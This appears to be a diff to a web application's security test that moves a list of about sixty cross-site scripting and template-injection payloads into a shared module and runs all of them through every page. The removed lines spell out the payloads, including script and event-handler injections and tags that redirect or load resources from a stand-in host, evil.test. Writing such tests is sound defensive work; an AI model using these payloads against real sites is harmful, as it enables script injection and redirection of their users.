@@ -11,31 +11,11 @@ from starlette.testclient import TestClient
 
 from ldgm_core.domain.matrix import AreaId
 from ldgm_core.services import perspective, preparation, reporting, scoring
+from tests.trust.hostile import PAYLOADS
 from tests.web.conftest import app, clock, make_room, phone, room, site, staff  # noqa: F401 - fixtures
 from tests.web.room import SECRET, Phone, Room
 from web import page
 
-TAGS = ("script", "img src=x", "svg", "iframe", "body", "input autofocus", "video", "details open", "math", "object", "embed", "marquee")
-EVENTS = ("onload", "onerror", "onfocus", "ontoggle")
-PAYLOADS = (
-    *[f"<{tag} {event}=alert(1)>" for tag in TAGS for event in EVENTS][:44],
-    "<script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "\"><script>alert(1)</script>",
-    "\' onmouseover=alert(1) x=\'",
-    "\" onfocus=alert(1) autofocus x=\"",
-    "<a href=javascript:alert(1)>x</a>",
-    "<form action=//evil.test><button>x</button></form>",
-    "<base href=//evil.test/>",
-    "<meta http-equiv=refresh content=0;url=//evil.test>",
-    "<link rel=stylesheet href=//evil.test/x.css>",
-    "<style>@import url(//evil.test)</style>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "{{ 7*7 }}{% for x in y %}",
-    "${alert(1)} #{alert(1)}",
-)
 # What our own pages use; anything else that appears came from somebody.
 OWN_ATTRIBUTES_BEGIN = ("on",)
 
@@ -96,11 +76,11 @@ def typed(make_room: Callable[..., Room], phone: Callable[..., Phone]) -> Callab
     return make
 
 
-@pytest.mark.parametrize("payload", PAYLOADS[::4], ids=range(0, 60, 4))
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(60))
 def test_nothing_that_was_typed_is_live_on_any_page(
     typed: Callable[[str], tuple[Room, Phone]], staff: TestClient, payload: str  # noqa: F811
 ) -> None:
-    """Every fourth payload through the whole program; all sixty through every template in the test below."""
+    """Each of the sixty through the whole program, and through every template in the test below."""
     meeting, other = typed(payload)
     addresses = ("", "o/cognition", "o/didactic", "beeld/cognition", "anders")
     pages = {address: other.get(f"{other.home}{address}").text for address in addresses}
